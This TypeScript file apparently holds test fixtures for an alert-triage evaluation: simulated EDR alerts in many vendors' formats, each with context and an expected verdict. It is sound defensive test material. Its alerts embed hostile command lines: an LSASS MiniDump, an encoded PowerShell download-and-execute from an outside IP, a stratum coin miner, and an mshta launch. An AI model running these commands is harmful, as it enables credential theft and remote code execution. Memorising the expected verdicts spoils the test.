// What endpoint products report on an ordinary day, in the shapes of several vendors.
import {
  alert,
  by,
  clean,
  closed,
  confirmed,
  connected,
  encodedCommand,
  fileSeen,
  harmless,
  hashes,
  hostile,
  malwareFound,
  processSeen,
  ran,
  situation,
  ticket,
  turnedAway,
  undecided,
  unjudged,
  worthALook,
  wrote,
} from '../../shorthand.ts'

export const falconLsassDump = situation(
  'falcon-lsass-dump',
  'formats',
  'A sensor saw the memory of the sign-in service read, and people confirmed it',
  (setting) => {
    const person = setting.person('jonas.brandt')
    const laptop = setting.laptopOf('jonas.brandt')
    const at = setting.ago({ minutes: 50 })
    const told = confirmed(setting, 'falcon dump', {
      title: 'Suspicious access to LSASS service',
      category: 'CredentialAccess',
      severity: 'High',
      techniques: ['T1003.001'],
      at: at + 60_000,
      machine: laptop,
      user: person,
      evidence: [
        { kind: 'User', person },
        processSeen(setting, 'rundll32.exe', 'C:\\Windows\\System32', 'rundll32.exe'),
      ],
    })
    return {
      alerts: [
        alert(setting, at, 'crowdstrike', 'EppDetectionSummaryEvent', {
          metadata: { eventType: 'EppDetectionSummaryEvent', eventCreationTime: at, offset: 771_204 },
          event: {
            Hostname: laptop.host.toUpperCase(),
            UserName: person.account,
            LocalIP: laptop.ip,
            FileName: 'rundll32.exe',
            FilePath: '\\Device\\HarddiskVolume3\\Windows\\System32\\rundll32.exe',
            CommandLine: 'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 688 C:\\ProgramData\\k.dmp full',
            Tactic: 'Credential Access',
            Technique: 'OS Credential Dumping',
            Objective: 'Gain Access',
            SeverityName: 'High',
            PatternDispositionDescription: 'Detection, standard detection.',
            ParentImageFileName: 'cmd.exe',
          },
        }),
      ],
      facts: { incidents: [told.incident] },
      expected: hostile(laptop.host),
      because: 'People confirmed this dump on this laptop a minute later and still work on it.',
    }
  },
)

export const sentinelOneUnwanted = situation(
  'sentinelone-unwanted',
  'formats',
  'A toolbar that was put away',
  (setting) => {
    const laptop = setting.laptopOf('amelie.roux')
    const at = setting.ago({ hours: 2 })
    const file = setting.file('toolbar-setup.exe')
    return {
      alerts: [
        alert(setting, at, 'sentinelone', 'Threat detected', {
          agentRealtimeInfo: { agentComputerName: laptop.host, agentOsName: 'Windows 11 Pro', agentInfected: false },
          agentDetectionInfo: { agentLastLoggedInUserName: 'amelie.roux', agentIpV4: laptop.ip },
          threatInfo: {
            threatName: 'toolbar-setup.exe',
            classification: 'PUA',
            confidenceLevel: 'malicious',
            mitigationStatus: 'mitigated',
            sha256: file.sha256,
            filePath: 'C:\\Users\\amelie.roux\\Downloads\\toolbar-setup.exe',
            identifiedAt: setting.iso(at),
            analystVerdict: 'undefined',
          },
        }),
      ],
      expected: { ...worthALook, severities: ['informational', 'low'] },
      because: 'Unwanted software, put away: suspicious at most and low.',
    }
  },
)

export const cortexEncodedBeacon = situation(
  'cortex-encoded-beacon',
  'formats',
  'An encoded command that calls a known attacker',
  (setting) => {
    const person = setting.person('viktor.sand')
    const laptop = setting.laptopOf('viktor.sand')
    const at = setting.ago({ minutes: 33 })
    const hidden = encodedCommand("IEX (New-Object Net.WebClient).DownloadString('http://45.138.16.203/a.ps1')")
    return {
      alerts: [
        alert(setting, at, 'cortex_xdr', 'Suspicious PowerShell Command Line', {
          alert_id: '88120',
          detection_timestamp: at,
          name: 'Suspicious PowerShell Command Line',
          category: 'Execution',
          severity: 'high',
          action_pretty: 'Detected (Reported)',
          host_name: laptop.host,
          host_ip: [laptop.ip],
          user_name: `HAVSKOG\\${person.account}`,
          actor_process_image_name: 'winword.exe',
          causality_actor_process_command_line: 'winword.exe /n',
          action_process_image_name: 'powershell.exe',
          action_process_image_command_line: `powershell.exe -nop -w hidden -enc ${hidden}`,
          mitre_technique_id_and_name: ['T1059.001 - Command and Scripting Interpreter: PowerShell'],
        }),
      ],
      facts: {
        telemetry: [
          ran(laptop, at, 'powershell.exe', `powershell.exe -nop -w hidden -enc ${hidden}`, by(person)),
          connected(laptop, at + 2000, '45.138.16.203', { InitiatingProcessFileName: 'powershell.exe' }),
        ],
      },
      expected: hostile(laptop.host),
      because: 'The decoded command fetched code from a server of a known framework, and the laptop connected to it.',
    }
  },
)

export const visionOneToolByAdmin = situation(
  'vision-one-tool-by-admin',
  'contradiction',
  'A network scanner that an administrator used, closed in other words',
  (setting) => {
    const oskar = setting.person('oskar.falk')
    const machine = setting.machine('srv-jump-01')
    const at = setting.ago({ hours: 3 })
    const file = setting.file('advanced-ip-scanner.exe')
    const told = closed(
      setting,
      'ip scanner',
      {
        title: 'Network scanning tool executed',
        category: 'Discovery',
        severity: 'Low',
        techniques: ['T1046'],
        at: at + 30_000,
        machine,
        user: oskar,
        evidence: [{ kind: 'User', person: oskar }, fileSeen(setting, 'advanced-ip-scanner.exe', 'C:\\Tools')],
      },
      'InformationalExpectedActivity',
      'ConfirmedActivity',
      'Oskar looked for printers before the move.',
    )
    return {
      alerts: [
        alert(setting, at, 'trend_vision_one', 'Hacking Tool Detection - Advanced IP Scanner', {
          workbenchId: 'WB-9002-20261115-00031',
          model: 'Hacking Tool Detection - Advanced IP Scanner',
          severity: 'medium',
          createdDateTime: setting.iso(at),
          impactScope: {
            entities: [
              { entityType: 'host', entityValue: { name: machine.host, ips: [machine.ip] } },
              { entityType: 'account', entityValue: `havskog\\${oskar.account}` },
            ],
          },
          indicators: [
            { type: 'file_sha256', value: file.sha256 },
            { type: 'fullpath', value: 'C:\\Tools\\advanced-ip-scanner.exe' },
          ],
          matchedRules: [{ name: 'Network discovery tool', matchedFilters: [{ mitreTechniqueIds: ['T1046'] }] }],
        }),
      ],
      facts: { incidents: [told.incident] },
      expected: harmless,
      because: 'The same run by the same administrator on the same server with the same file was judged expected.',
    }
  },
)

export const wazuhNewServiceFile = situation(
  'wazuh-new-service-file',
  'formats',
  'A service whose file is a known backdoor',
  (setting) => {
    const machine = setting.machine('srv-print-03')
    const at = setting.ago({ minutes: 70 })
    const file = setting.file('hollowreed-stager.dll')
    return {
      alerts: [
        alert(setting, at, 'wazuh', 'New Windows service created', {
          timestamp: setting.iso(at),
          rule: { level: 12, description: 'New Windows Service Created', id: '61138', mitre: { id: ['T1543.003'] } },
          agent: { id: '031', name: machine.host, ip: machine.ip },
          manager: { name: 'wazuh-mgr-01' },
          data: {
            win: {
              system: { eventID: '7045', providerName: 'Service Control Manager', computer: machine.dnsName },
              eventdata: {
                serviceName: 'SpoolHelper',
                imagePath: 'C:\\ProgramData\\spool\\spoolhelper.dll',
                startType: 'auto start',
                accountName: 'LocalSystem',
              },
            },
          },
          location: 'EventChannel',
        }),
      ],
      facts: {
        telemetry: [wrote(machine, at - 9000, 'spoolhelper.dll', 'C:\\ProgramData\\spool\\spoolhelper.dll', file)],
      },
      expected: hostile(machine.host),
      because:
        'The file behind the new service is the backdoor of a known framework, by the hash that the platform has.',
    }
  },
)

export const carbonBlackRansomBlocked = situation(
  'carbon-black-locker-blocked',
  'formats',
  'A locker that was stopped before it ran',
  (setting) => {
    const laptop = setting.laptopOf('tomas.wikner')
    const at = setting.ago({ hours: 1 })
    const identity = setting.file('glaswolf-locker.exe')
    return {
      alerts: [
        alert(setting, at, 'carbon_black_cloud', 'CB_ANALYTICS', {
          type: 'CB_ANALYTICS',
          id: 'f7b41c2e-0d3a-4f22-9d8e-1f0a5c7b9e10',
          backend_timestamp: setting.iso(at),
          severity: 9,
          reason:
            'The application glaswolf-locker.exe was detected running and was blocked. A Deny Policy Action was applied.',
          device_name: `HAVSKOG\\${laptop.host}`,
          device_internal_ip: laptop.ip,
          device_username: 'tomas.wikner@havskoginstruments.com',
          process_name: 'c:\\users\\tomas.wikner\\downloads\\glaswolf-locker.exe',
          process_sha256: identity.sha256,
          policy_applied: 'APPLIED',
          run_state: 'DID_NOT_RUN',
          sensor_action: 'DENY',
        }),
      ],
      facts: {
        malwareEvents: malwareFound(
          laptop,
          at + 4000,
          'W32.Glaswolf.Locker',
          { name: 'glaswolf-locker.exe', path: 'C:\\Users\\tomas.wikner\\Downloads', identity },
          'Threat Quarantined',
          'Critical',
        ),
      },
      expected: turnedAway,
      because: 'A known locker by its hash, denied by the sensor and put away: malicious and stopped.',
    }
  },
)

export const elasticUnknownTool = situation(
  'elastic-unknown-tool',
  'formats',
  'A program that nobody knows and nobody judged',
  (setting) => {
    const person = setting.person('wei.chen')
    const laptop = setting.laptopOf('wei.chen')
    const at = setting.ago({ hours: 5 })
    return {
      alerts: [
        alert(setting, at, 'elastic', 'Unusual Process For a Windows Host', {
          '@timestamp': setting.iso(at),
          'kibana.alert.rule.name': 'Unusual Process For a Windows Host',
          'kibana.alert.severity': 'low',
          'kibana.alert.risk_score': 21,
          host: { name: laptop.host, ip: [laptop.ip] },
          user: { name: person.account, domain: 'HAVSKOG' },
          process: { name: 'fwflash.exe', hash: { sha256: setting.file('fwflash.exe').sha256 } },
          event: { kind: 'signal', category: ['process'], outcome: 'success' },
        }),
      ],
      expected: undecided,
      because: 'Nobody knows the file and nobody judged it.',
    }
  },
)

export const defenderFalsePositiveOtherName = situation(
  'macro-of-finance-judged',
  'contradiction',
  'A macro that people cleared, told by another product by its hash',
  (setting) => {
    const leila = setting.person('leila.haddad')
    const laptop = setting.laptopOf('leila.haddad')
    const at = setting.ago({ hours: 2, minutes: 30 })
    const told = closed(
      setting,
      'finance macro',
      {
        title: 'Suspicious macro behaviour in a workbook',
        category: 'Execution',
        severity: 'Medium',
        techniques: ['T1204.002'],
        at: at - 90_000,
        machine: laptop,
        user: leila,
        evidence: [{ kind: 'User', person: leila }, fileSeen(setting, 'closing-month.xlsm', 'C:\\Finance')],
      },
      'FalsePositive',
      'NotMalicious',
      'The monthly closing workbook. Macro read line by line.',
    )
    return {
      alerts: [
        alert(
          setting,
          at,
          'symantec_sep',
          'SONAR detection now allowed',
          `Potential risk found,Computer name: ${laptop.host},IP Address: ${laptop.ip},Detection type: Heuristic,First Seen: Symantec has known about this file approximately 2 days.,Application name: closing-month.xlsm,Application type: 127,Version: ,Hash type: SHA-256,Hash: ${setting.file('closing-month.xlsm').sha256},Risk name: SONAR.ProcHijack!gen5,Occurrences: 1,File path: C:\\Finance\\closing-month.xlsm,Actual action: Left alone,Event time: ${setting.iso(at)},User Name: ${leila.account},Domain Name: HAVSKOG`,
        ),
      ],
      facts: { incidents: [told.incident] },
      expected: harmless,
      because:
        'The same file of the same person on the same laptop in the same minutes was read and cleared by people.',
    }
  },
)

export const sophosCleanupFailed = situation(
  'sophos-cleanup-failed',
  'formats',
  'A trojan that could not be put away',
  (setting) => {
    const laptop = setting.laptopOf('grace.mbeki')
    const at = setting.ago({ minutes: 95 })
    const identity = setting.file('Faktura_2291.scr')
    return {
      alerts: [
        alert(setting, at, 'sophos_central', 'Event::Endpoint::Threat::CleanupFailed', {
          type: 'Event::Endpoint::Threat::CleanupFailed',
          when: setting.iso(at),
          severity: 'high',
          name: "Manual cleanup required: 'Troj/Saltm-A' at 'C:\\Users\\grace.mbeki\\AppData\\Local\\Temp\\Faktura_2291.scr'",
          location: laptop.host,
          source: 'HAVSKOG\\grace.mbeki',
          threat: 'Troj/Saltm-A',
          endpoint_type: 'computer',
          appSha256: identity.sha256,
        }),
      ],
      facts: {
        malwareEvents: malwareFound(
          laptop,
          at,
          'W32.Saltmarsh.Loader',
          { name: 'Faktura_2291.scr', path: 'C:\\Users\\grace.mbeki\\AppData\\Local\\Temp', identity },
          'Quarantine Failure',
        ),
      },
      expected: hostile(laptop.host),
      because: 'A known loader by its hash, and both products failed to remove it from this laptop.',
    }
  },
)

export const jamfProfileByIt = situation(
  'profile-by-it',
  'vocabulary',
  'Remote help installed by IT, with a ticket that has another title',
  (setting) => {
    const hanna = setting.person('hanna.lindqvist')
    const laptop = setting.laptopOf('hanna.lindqvist')
    const at = setting.ago({ hours: 6 })
    return {
      alerts: [
        alert(setting, at, 'huntress', 'Remote management tool installed', {
          entity: { type: 'host', name: laptop.host },
          detected_at: setting.iso(at),
          severity: 'medium',
          details: { tool: 'AnyDesk', path: 'C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe', user: hanna.account },
          indicator: 'RMM tool not on the allow list',
        }),
      ],
      facts: {
        investigations: [
          ticket(
            setting,
            'Remote management tool installed on a laptop',
            at + 60_000,
            'BENIGN',
            [{ person: hanna }, { machine: laptop }],
            'Service desk installed AnyDesk for the help call 55120 and removed it after.',
          ),
        ],
      },
      expected: harmless,
      because: 'The ticket is of this installation, on this laptop, of this person, in this minute.',
    }
  },
)

export const minerOnTheBuildServer = situation(
  'miner-under-a-known-domain',
  'vocabulary',
  'A coin miner by its command, seen by the platform, with a pool that is a known attacker',
  (setting) => {
    const machine = setting.machine('srv-build-02')
    const at = setting.ago({ minutes: 44 })
    const command = '/tmp/.x/kdevtmpfsi -o stratum+tcp://pool.nordcloud-metrics.net:3333 --donate-level 1'
    return {
      alerts: [
        alert(setting, at, 'falco', 'Detect crypto miners using the Stratum protocol', {
          output: `${setting.iso(at)}: Critical Possible miner running (command=${command} pid=2211 user=www-data host=${machine.host})`,
          priority: 'Critical',
          rule: 'Detect crypto miners using the Stratum protocol',
          source: 'syscall',
          tags: ['mitre_impact', 'T1496'],
          time: setting.iso(at),
          hostname: machine.host,
          output_fields: { 'proc.cmdline': command, 'user.name': 'www-data', 'proc.name': 'kdevtmpfsi' },
        }),
      ],
      facts: { telemetry: [ran(machine, at, 'kdevtmpfsi', command, hashes(setting.file('kdevtmpfsi')))] },
      expected: hostile(machine.host),
      because: 'The program ran on the server and talks to a host under a domain that is a command server today.',
    }
  },
)

export const agentUpdateOfTheSensor = situation(
  'agent-update-of-the-sensor',
  'vocabulary',
  'A sensor tells of its own update',
  (setting) => {
    const laptop = setting.laptopOf('robert.keane')
    const at = setting.ago({ minutes: 20 })
    return {
      alerts: [
        alert(setting, at, 'cisco_secure_endpoint', 'Product Update Completed', {
          event_type: 'Product Update Completed',
          computer: { hostname: laptop.host, network_addresses: [{ ip: laptop.ip }] },
          date: setting.iso(at),
          new_version: '8.4.2',
        }),
      ],
      expected: { ...undecided, severities: ['informational'], forbidden: [{ action: 'any', target: '*' }] },
      because: 'It claims nothing about security.',
    }
  },
)

export const unjudgedHighOnThisLaptop = situation(
  'unjudged-side-load',
  'contradiction',
  'Two products report one event of high severity, and nobody has judged it',
  (setting) => {
    const person = setting.person('marcus.bell')
    const laptop = setting.laptopOf('marcus.bell')
    const at = setting.ago({ hours: 1, minutes: 15 })
    const told = unjudged(setting, 'odd child', {
      title: 'Office application started an unusual child process',
      category: 'Execution',
      severity: 'High',
      techniques: ['T1204.002'],
      at: at + 20_000,
      machine: laptop,
      user: person,
      evidence: [
        { kind: 'User', person },
        processSeen(setting, 'mshta.exe', 'C:\\Windows\\System32', 'mshta.exe C:\\Users\\Public\\o.hta', 'winword.exe'),
      ],
    })
    return {
      alerts: [
        alert(setting, at, 'deep_instinct', 'Script control: mshta started by an Office application', {
          id: 55_102,
          deviceRecord: { hostname: laptop.host, ip_address: laptop.ip, logged_in_users: `HAVSKOG\\${person.account}` },
          type: 'SUSPICIOUS_SCRIPT_EXCECUTION',
          threat_severity: 'HIGH',
          timestamp: setting.iso(at),
          path: 'C:\\Windows\\System32\\mshta.exe',
          command_line: 'mshta.exe C:\\Users\\Public\\o.hta',
          action: 'DETECTED',
          mitre: 'T1218.005',
        }),
      ],
      facts: { incidents: [told.incident] },
      expected: worthALook,
      because: 'A detection of high severity that nobody judged is worth a look.',
    }
  },
)

export const clearedFileElsewhere = situation(
  'cleared-tool-on-another-server',
  'contradiction',
  'The tool was judged on another server by another admin',
  (setting) => {
    const karin = setting.person('karin.strand')
    const oskar = setting.person('oskar.falk')
    const machine = setting.machine('srv-sql-01')
    const at = setting.ago({ hours: 1 })
    const told = closed(
      setting,
      'psexec elsewhere',
      {
        title: 'PsExec used to run a command on another machine',
        category: 'LateralMovement',
        severity: 'Medium',
        techniques: ['T1569.002'],
        at: at + 60_000,
        machine: setting.machine('srv-backup-01'),
        user: karin,
        evidence: [{ kind: 'User', person: karin }],
      },
      'InformationalExpectedActivity',
      'ConfirmedActivity',
      'Backup maintenance by Karin.',
    )
    return {
      alerts: [
        alert(setting, at, 'splunk_es', 'PsExec used to run a command on another machine', {
          search_name: 'Endpoint - PsExec used to run a command on another machine - Rule',
          dest: machine.host,
          user: oskar.account,
          process: 'PsExec64.exe -s cmd /c whoami /groups',
          _time: setting.iso(at),
          annotations: { mitre_attack: ['T1569.002'] },
        }),
      ],
      facts: { incidents: [told.incident], intelligence: [clean(setting, 'domain', 'example.com')] },
      expected: undecided,
      because: 'The judgement is about another server and another account.',
    }
  },
)
